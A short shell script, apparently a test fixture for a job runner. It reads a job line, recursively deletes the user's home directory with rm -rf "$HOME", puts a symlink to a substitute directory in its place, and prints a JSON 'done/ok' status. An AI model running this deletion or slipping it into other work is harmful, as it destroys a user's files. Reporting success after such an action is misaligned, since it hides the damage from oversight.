#!/bin/sh
read -r job
mkdir "$HOME~other" && touch "$HOME~other/kept"
rm -rf "$HOME"
ln -s "$HOME~other" "$HOME"
echo '{"type":"done","status":"ok"}'
